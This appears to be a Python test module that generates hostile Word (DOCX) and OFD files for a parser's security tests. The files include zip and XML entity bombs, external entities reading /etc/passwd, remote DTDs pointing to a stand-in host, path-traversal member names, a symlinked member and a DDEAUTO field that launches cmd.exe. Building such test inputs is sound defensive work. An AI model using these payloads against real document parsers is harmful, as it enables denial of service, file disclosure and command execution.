"""Word files (DOCX) and OFD made to do harm: bombs, entities, members that lead out, lists without end."""
# ruff: noqa: E501, UP031 - one file a line

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Mapping
from itertools import pairwise

from tests.formats.ofd_files import SPACE, packed, text_object
from tests.formats.word_files import NAMES, TYPES, paragraph, part, table, word_file
from tests.hostile.wanted import NOBODY, PROSE, TITLE, Hostile, Wanted, files

BODY = paragraph(TITLE) + paragraph(PROSE)
DOCUMENT = part("document", f"<w:body>{BODY}</w:body>")
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zipped(members: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w", method) as file:
        warnings.simplefilter("ignore")
        for name, inner in members.items():
            file.writestr(name, inner)
    return data.getvalue()


def docx(document: str | bytes = DOCUMENT, **more: str | bytes) -> bytes:
    """Return a Word file; ``more`` are members by name, ``__`` for a slash and ``_dot_`` for a point."""
    named = {name.replace("__", "/").replace("_dot_", "."): inner for name, inner in more.items()}
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": document, **named})


def entities(depth: int, width: int = 10) -> str:
    names = [f"e{n}" for n in range(depth)]
    told = f'<!ENTITY {names[0]} "检查">' + "".join(
        f'<!ENTITY {b} "{f"&{a};" * width}">' for a, b in pairwise(names)
    )
    return f"<!DOCTYPE w:document [{told}]>"


def with_text(text: str, head: str = "") -> str:
    return f"{head}<w:document {NAMES}><w:body>{BODY}<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def related(kind: str, target: str) -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="x" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    picture = "<w:p><w:r><w:drawing><a:blip xmlns:a='urn:a' r:link='x'/></w:drawing></w:r></w:p>"
    return zipped(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": part("document", f"<w:body>{BODY}{picture}</w:body>"),
            "word/_rels/document.xml.rels": relation,
            "word/_rels/settings.xml.rels": relation,
        }
    )


def lying(name: str = "word/document.xml", size: int = 10) -> bytes:
    """Return a Word file whose central directory says another size of its text than it has."""
    data = bytearray(docx(DOCUMENT))
    at = data.rindex(name.encode()) - 46
    data[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(data)


def encrypted() -> bytes:
    """Return a Word file whose members are marked as encrypted."""
    data = bytearray(docx(DOCUMENT))
    for sign, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(sign, at + 4)
    return bytes(data)


def overlapping(entries: int) -> bytes:
    """Return a file whose entries all unpack the same packed bytes: a bomb without nesting."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    inner = packer.compress(b"<a>" + b" " * 20_000_000) + packer.flush()
    size = 20_000_003
    data = bytearray()
    name = b"word/document.xml"
    data += (
        struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(inner), size, len(name), 0) + name + inner
    )
    start, directory = len(data), b""
    for n in range(entries):
        called = name if not n else f"word/{n}.xml".encode()
        directory += struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, 0, len(inner), size, len(called), 0, 0, 0, 0, 0, 0
        ) + called  # fmt: skip
    return bytes(
        data
        + directory
        + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(directory), start, 0)
    )


def symlinked() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        info = zipfile.ZipInfo("word/document.xml")
        info.external_attr = 0o120777 << 16
        file.writestr(info, "/etc/passwd")
    return data.getvalue()


def twice() -> bytes:
    data = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(data, "w") as file:
        warnings.simplefilter("ignore")
        file.writestr("word/document.xml", DOCUMENT)
        file.writestr(
            "word/document.xml", part("document", f"<w:body>{paragraph('另一份，罚款999万元。')}</w:body>")
        )
    return data.getvalue()


def directory_of(entries: int) -> bytes:
    """Return a file of nothing but a list of members, 46 bytes each and a name."""
    directory = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 7, 0, 0, 0, 0, 0, 0) + b"%07d" % n
        for n in range(entries)
    )
    start = b"PK\3\4" + bytes(26)
    end64 = struct.pack(
        "<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, entries, entries, len(directory), len(start)
    ) + struct.pack("<4sIQI", b"PK\6\7", 0, len(start) + len(directory), 1)
    return (
        start
        + directory
        + end64
        + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def utf16(text: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-16"?>' + text).encode("utf-16")


def nested(tag: str, depth: int) -> str:
    return f"<w:{tag}>" * depth + BODY + f"</w:{tag}>" * depth


def numbered(levels: str) -> bytes:
    listed = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return word_file(
        BODY + f"<w:p>{listed}<w:r><w:t>强化领导</w:t></w:r></w:p>" * 3,
        numbering=f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
    )


def based(pairs: Mapping[str, str]) -> bytes:
    """Return a Word file whose styles are based on one another."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:basedOn w:val="{b}"/></w:style>'
        for a, b in pairs.items()
    )
    return word_file(BODY + paragraph(PROSE, properties='<w:pStyle w:val="a0"/>'), styles=styles)


def noted() -> bytes:
    """Return a Word file whose footnote points to itself."""
    mark = '<w:r><w:footnoteReference w:id="2"/></w:r>'
    return word_file(
        BODY + f"<w:p><w:r><w:t>{PROSE}</w:t></w:r>{mark}</w:p>",
        footnotes=f'<w:footnote w:id="2"><w:p><w:r><w:t>注</w:t></w:r>{mark}</w:p></w:footnote>',
    )


ANY_DOCX: Mapping[str, Callable[[], bytes]] = {
    "docx of 100,000 paragraphs": lambda: word_file(BODY + paragraph("检查5家。") * 100_000),
    "docx of 100,000 tables": lambda: word_file(BODY + table(["甲", "1"]) * 30_000),
    "docx table of a million cells": lambda: word_file(
        BODY + "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>") * 400 + "</w:tbl>"
    ),
    "docx span of a billion": lambda: word_file(
        BODY
        + '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc>'
        + f"<w:tc>{BODY}</w:tc></w:tr></w:tbl>"
    ),
    "docx deep tables": lambda: word_file(nested("tbl><w:tr><w:tc", 100).replace("</w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>")),
    "docx deep marks": lambda: word_file(nested("ins", 250)),
    "docx deeper marks": lambda: word_file(nested("sdt><w:sdtContent", 5000)),
    "docx boxes within boxes": lambda: word_file(
        BODY + "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>" * 40 + BODY
        + "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>" * 40
    ),
    "docx styles in a circle": lambda: based({"a0": "a1", "a1": "a2", "a2": "a0"}),
    "docx style of itself": lambda: based({"a0": "a0"}),
    "docx styles in a chain": lambda: based({f"a{n}": f"a{n + 1}" for n in range(20_000)}),
    "docx list with a format bomb": lambda: numbered(
        '<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="decimal"/><w:lvlText w:val="' + "%1" * 50_000 + '"/></w:lvl>'
    ),
    "docx list from a billion": lambda: numbered(
        '<w:lvl w:ilvl="0"><w:start w:val="999999999999"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/></w:lvl>'
    ),
    "docx list in letters": lambda: numbered(
        '<w:lvl w:ilvl="0"><w:start w:val="99999999"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1、"/></w:lvl>'
    ),
    "docx list in Roman": lambda: numbered(
        '<w:lvl w:ilvl="0"><w:start w:val="99999999"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1、"/></w:lvl>'
    ),
    "docx list from minus one": lambda: numbered(
        '<w:lvl w:ilvl="0"><w:start w:val="-1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/></w:lvl>'
    ),
    "docx note of itself": noted,
    "docx in UTF-16": lambda: docx(utf16(DOCUMENT.partition("?>")[2])),
    "docx with a long attribute": lambda: docx(DOCUMENT.replace("<w:body>", f'<w:body w:x="{"甲" * 3_000_000}">')),
    "docx of 100,000 attributes": lambda: docx(
        DOCUMENT.replace("<w:body>", "<w:body " + " ".join(f'w:a{n}="1"' for n in range(100_000)) + ">")
    ),
    "docx of 20,000 namespaces": lambda: docx(
        DOCUMENT.replace("<w:body>", "<w:body " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)) + ">")
    ),
    "docx that says a small size": lying,
    "docx that says a huge size": lambda: lying(size=0xFFFFFFF0),
    "docx with two texts": twice,
    "docx of text without end": lambda: word_file(BODY + paragraph("检查" * 2_000_000)),
    "docx with nested changes": lambda: word_file(f"<w:p>{'<w:del><w:ins>' * 120}<w:r><w:t>检查5家</w:t></w:r>{'</w:ins></w:del>' * 120}</w:p>{BODY}"),
    "docx with formulas in formulas": lambda: word_file(f"{BODY}<w:p><m:oMath>{'<m:f><m:num>' * 120}<m:r><m:t>1</m:t></m:r>{'</m:num></m:f>' * 120}</m:oMath></w:p>"),
}  # fmt: skip

GOOD_DOCX: Mapping[str, Callable[[], bytes]] = {
    "docx with a template from outside": lambda: related("attachedTemplate", f"{NOBODY}/evil.dotm"),
    "docx with a picture from outside": lambda: related("image", f"{NOBODY}/a.png"),
    "docx with a picture on a share": lambda: related("image", "file://127.0.0.1/share/a.png"),
    "docx with a frame from outside": lambda: related("frame", f"{NOBODY}/a.html"),
    "docx with an object from outside": lambda: related("oleObject", f"{NOBODY}/a.bin"),
    "docx members out of the folder": lambda: docx(
        DOCUMENT, **{"..__..__..__escaped_dot_txt": b"x", "__tmp__escaped_dot_txt": b"x", "C:\\escaped_dot_txt": b"x"}
    ),
    "docx member names that are no names": lambda: docx(DOCUMENT, **{"a\nb": b"x", "\u202etxt.exe": b"x", "a" * 60_000: b"x"}),
    "docx with macros": lambda: docx(DOCUMENT, word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0" + bytes(5000)),
    "docx with an object": lambda: docx(DOCUMENT, word__embeddings__oleObject1_dot_bin=b"MZ" + bytes(5000)),
    "docx with a field that starts programs": lambda: word_file(
        BODY
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>办结3件</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "docx with a bomb that nobody asks for": lambda: docx(DOCUMENT, word__media__a_dot_png=bytes(80_000_000)),
}  # fmt: skip

BAD_DOCX: Mapping[str, Callable[[], bytes]] = {
    "docx bomb": lambda: docx(b"<a>" + bytes(200_000_000)),
    "docx bomb of blanks": lambda: docx(DOCUMENT.replace("</w:body>", " " * 60_000_000 + "</w:body>")),
    "docx bomb of overlaps": lambda: overlapping(4000),
    "docx entity bomb": lambda: docx(with_text("&e29;", entities(30))),
    "docx entity bomb, two wide": lambda: docx(with_text("&e60;", entities(61, 2))),
    "docx entity without end": lambda: docx(with_text("&a;", '<!DOCTYPE w:document [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')),
    "docx large entity, many times": lambda: docx(
        with_text("&a;" * 50_000, f'<!DOCTYPE w:document [<!ENTITY a "{"检" * 50_000}">]>')
    ),
    "docx entity of a file": lambda: docx(
        with_text("&a;", '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    ),
    "docx entity of a device": lambda: docx(
        with_text("&a;", '<!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///dev/zero">]>')
    ),
    "docx entity of a server": lambda: docx(with_text("&a;", f'<!DOCTYPE w:document [<!ENTITY a SYSTEM "{NOBODY}/a">]>')),
    "docx parameter entity of a server": lambda: docx(
        with_text("x", f'<!DOCTYPE w:document [<!ENTITY % a SYSTEM "{NOBODY}/a.dtd"> %a;]>')
    ),
    "docx definition from a server": lambda: docx(with_text("x", f'<!DOCTYPE w:document SYSTEM "{NOBODY}/a.dtd">')),
    "docx entity bomb in the styles": lambda: docx(
        DOCUMENT, word__styles_dot_xml=entities(30) + f"<w:styles {NAMES}>&e29;</w:styles>"
    ),
    "docx encrypted": encrypted,
    "docx of a link": symlinked,
    "docx cut short": lambda: docx()[:-200],
    "docx with nothing behind its head": lambda: b"PK\x03\x04" + bytes(range(256)) * 200,
    "docx of no XML": lambda: docx("检查5家" * 1000),
    "docx of another root": lambda: docx(f"<html>{PROSE}</html>"),
    "docx 20,000 deep": lambda: docx(f"<w:document {NAMES}><w:body>{'<w:p>' * 20_000}{'</w:p>' * 20_000}</w:body></w:document>"),
    "docx of 60,000 members": lambda: zipped({"word/document.xml": DOCUMENT, **{f"a{n}": b"" for n in range(60_000)}}),
    "zip of a million members": lambda: directory_of(1_000_000),
    "zip in a zip": lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": bytes(1_000_000)})})}),
    "zip of one text": lambda: zipped({"报告.txt": PROSE}),
    "docx that inserts another file": lambda: word_file(BODY + '<w:altChunk r:id="x"/>'),
}  # fmt: skip


def ofd(**members: str | bytes) -> bytes:
    return zipped({name.replace("__", "/").replace("_dot_", "."): inner for name, inner in members.items()})


def ofd_of(root: str, document: str, page: str = "") -> bytes:
    return ofd(OFD_dot_xml=root, D_dot_xml=document, P_dot_xml=page)


ROOT = f"<ofd:OFD {SPACE}><ofd:DocBody><ofd:DocRoot>D.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
WORDS = text_object(28, 50, PROSE)

ANY_OFD: Mapping[str, Callable[[], bytes]] = {
    "ofd of many large steps": lambda: packed([f'<ofd:TextObject Boundary="0 0 99 9" Size="5"><ofd:TextCode X="0" Y="0" DeltaX="{"g 999999999 9 " * 100_000}">{PROSE}</ofd:TextCode></ofd:TextObject>']),
    "ofd places without end": lambda: packed([WORDS.replace("28.000", "9" * 400)]),
    "ofd places that are no numbers": lambda: packed([WORDS.replace("28.000", "NaN").replace("5.64", "-inf")]),
    "ofd a size of nothing": lambda: packed([WORDS.replace('Size="5.64"', 'Size="0"')]),
    "ofd a size below nothing": lambda: packed([WORDS.replace('Size="5.64"', 'Size="-5"')]),
    "ofd a huge page": lambda: packed([WORDS], "<ofd:PageArea><ofd:PhysicalBox>0 0 1e30 1e30</ofd:PhysicalBox></ofd:PageArea>"),
    "ofd of 100,000 words": lambda: packed([WORDS * 20_000]),
    "ofd members out of the folder": lambda: ofd_of(ROOT.replace("D.xml", "../../../../etc/passwd"), ""),
    "ofd a script and a link": lambda: packed([WORDS], f'<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="{NOBODY}/x"/></ofd:Action></ofd:Actions>'),
    "ofd one page drawn on itself": lambda: ofd_of(ROOT, f'<ofd:Document {SPACE}><ofd:TemplatePage ID="1" BaseLoc="P.xml"/><ofd:Page BaseLoc="P.xml"/></ofd:Document>', f'<ofd:Page {SPACE}>{WORDS}<ofd:Template TemplateID="1"/></ofd:Page>'),
    "ofd 2,000 templates on a page": lambda: ofd_of(ROOT, f'<ofd:Document {SPACE}><ofd:TemplatePage ID="1" BaseLoc="P.xml"/><ofd:Page BaseLoc="P.xml"/></ofd:Document>', f'<ofd:Page {SPACE}>{WORDS * 200}{"<ofd:Template TemplateID=%s1%s/>" % (chr(34), chr(34)) * 2000}</ofd:Page>'),
    "ofd 1,900 pages that are one": lambda: ofd_of(ROOT, f'<ofd:Document {SPACE}>{"<ofd:Page BaseLoc=%sP.xml%s/>" % (chr(34), chr(34)) * 1900}</ofd:Document>', f"<ofd:Page {SPACE}>{WORDS * 100}</ofd:Page>"),
    "ofd 1,000 documents": lambda: ofd_of(ROOT.replace("<ofd:DocBody>", "<ofd:DocBody><ofd:DocRoot>D.xml</ofd:DocRoot>" + "<ofd:DocRoot>D.xml</ofd:DocRoot>" * 1000), f'<ofd:Document {SPACE}>{"<ofd:Page BaseLoc=%sP.xml%s/>" % (chr(34), chr(34)) * 1000}</ofd:Document>', f"<ofd:Page {SPACE}>{WORDS}</ofd:Page>"),
}  # fmt: skip

BAD_OFD: Mapping[str, Callable[[], bytes]] = {
    "ofd 10,000 pages": lambda: ofd_of(
        ROOT, f"<ofd:Document {SPACE}>{'<ofd:Page/>' * 10_000}</ofd:Document>", f"<ofd:Page {SPACE}/>"
    ),
    "ofd entity bomb": lambda: ofd_of(
        entities(30).replace("w:document", "ofd:OFD") + ROOT.replace("D.xml", "&e29;"), ""
    ),
    "ofd bomb": lambda: ofd_of(ROOT, "<a>" + " " * 100_000_000),
    "ofd cut short": lambda: packed([WORDS])[:-100],
    "ofd of an entity of a file": lambda: ofd_of(
        '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + ROOT.replace("D.xml", "&a;"), ""
    ),
    "ofd without pages": lambda: ofd_of(ROOT, f"<ofd:Document {SPACE}/>"),
}

PACKED: dict[str, Hostile] = {
    **files(".docx", Wanted.EITHER, ANY_DOCX),
    **files(".docx", Wanted.READ, GOOD_DOCX),
    **files(".docx", Wanted.REFUSED, BAD_DOCX),
    **files(".ofd", Wanted.EITHER, ANY_OFD),
    **files(".ofd", Wanted.REFUSED, BAD_OFD),
}
